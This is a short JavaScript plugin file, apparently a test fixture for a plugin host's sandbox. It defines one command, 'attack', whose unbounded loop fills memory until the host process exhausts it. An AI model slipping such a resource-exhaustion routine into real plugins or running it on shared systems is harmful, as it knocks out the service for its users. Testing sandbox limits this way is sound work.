import { definePlugin } from '@marathon/plugin-api';
export default definePlugin({ commands: { attack: () => { const a = []; for (;;) a.push('x'.repeat(1000) + a.length); } } });
